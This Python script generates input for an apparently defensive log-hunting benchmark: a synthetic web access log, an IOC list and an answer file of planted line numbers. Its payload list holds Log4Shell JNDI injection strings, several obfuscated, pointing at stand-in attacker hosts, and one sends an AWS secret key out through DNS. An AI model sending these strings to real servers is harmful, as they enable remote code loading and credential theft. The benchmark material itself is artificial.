#!/usr/bin/env python3
"""Generate the hunt benchmark's input.

gen-access-log.py OUTDIR MEGABYTES IOCS

OUTDIR/access.log: a combined-format access log of about MEGABYTES, with
planted lines: Log4Shell payloads of several families (one line in 20,000)
and lines holding an IOC (one in 5,000: a client address, a domain in the
referer, a URL); OUTDIR/iocs.txt: IOCS indicators, one per line (addresses,
domains, URLs, SHA-256 hashes), the planted ones among them;
OUTDIR/planted.txt: the line numbers of the planted lines, by kind.
Deterministic.
"""
import os
import random
import sys

out, megabytes, n_iocs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
rnd = random.Random(5)
os.makedirs(out, exist_ok=True)
pages = ["/", "/login", "/account", "/orders/%d", "/static/app.%s.js", "/api/v1/cart", "/api/v1/products?page=%d",
         "/help/article/%d", "/favicon.ico", "/search?q=shoes+size+%d"]
uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
       "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", "curl/8.5.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"]
payloads = [
    "${jndi:ldap://%s:1389/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s/x}",
    "${jndi:${lower:r}mi://%s/obj}",
    "%%24%%7Bjndi%%3Aldap%%3A%%2F%%2F%s%%2Fa%%7D",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.%s/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/b}",
]
iocs = set()
planted_ioc = []
while len(iocs) < n_iocs:
    k = rnd.randrange(4)
    if k == 0:
        iocs.add("%d.%d.%d.%d" % (rnd.randint(1, 223), rnd.randint(0, 255), rnd.randint(0, 255), rnd.randint(1, 254)))
    elif k == 1:
        iocs.add("%s%d.evil-%d.example" % (rnd.choice("abcdefgh"), rnd.randint(0, 99999), rnd.randint(0, 999)))
    elif k == 2:
        iocs.add("http://dl%d.bad-%d.example/p/%d.sh" % (rnd.randint(0, 99), rnd.randint(0, 9999), rnd.randint(0, 99999)))
    else:
        iocs.add("%064x" % rnd.getrandbits(256))
iocs = sorted(iocs)
plant_from = [i for i in iocs if not all(c in "0123456789abcdef" for c in i)][:2000]
with open(os.path.join(out, "iocs.txt"), "w") as f:
    f.write("\n".join(iocs) + "\n")
target = megabytes << 20
size, n = 0, 0
planted = {"log4shell": [], "ioc": []}
with open(os.path.join(out, "access.log"), "w") as f:
    while size < target:
        n += 1
        ip = "10.%d.%d.%d" % (rnd.randint(0, 255), rnd.randint(0, 255), rnd.randint(1, 254))
        page = rnd.choice(pages)
        if "%d" in page:
            page = page % rnd.randint(1, 99999)
        elif "%s" in page:
            page = page % ("%08x" % rnd.getrandbits(32))
        ref, ua = "https://shop.example/", rnd.choice(uas)
        r = rnd.random()
        if r < 1 / 20000:
            ua = rnd.choice(payloads) % ("cb%d.attacker.example.net" % rnd.randint(0, 999))
            planted["log4shell"].append(n)
        elif r < 1 / 20000 + 1 / 5000:
            v = rnd.choice(plant_from)
            if v.startswith("http"):
                ref = v
            elif v[0].isdigit() and v.count(".") == 3:
                ip = v
            else:
                ref = "https://" + v + "/landing"
            planted["ioc"].append(n)
        line = '%s - - [19/Nov/2026:%02d:%02d:%02d +0000] "GET %s HTTP/1.1" %d %d "%s" "%s"\n' % (
            ip, n // 3600 % 24, n // 60 % 60, n % 60, page, rnd.choice([200] * 9 + [304, 404]),
            rnd.randint(200, 90000), ref, ua)
        f.write(line)
        size += len(line)
with open(os.path.join(out, "planted.txt"), "w") as f:
    for k, v in planted.items():
        f.write("%s %d %s\n" % (k, len(v), " ".join(map(str, v))))
print(f"{n} lines, {size / 1048576:.0f} MiB, {len(planted['log4shell'])} Log4Shell, {len(planted['ioc'])} IOC lines")
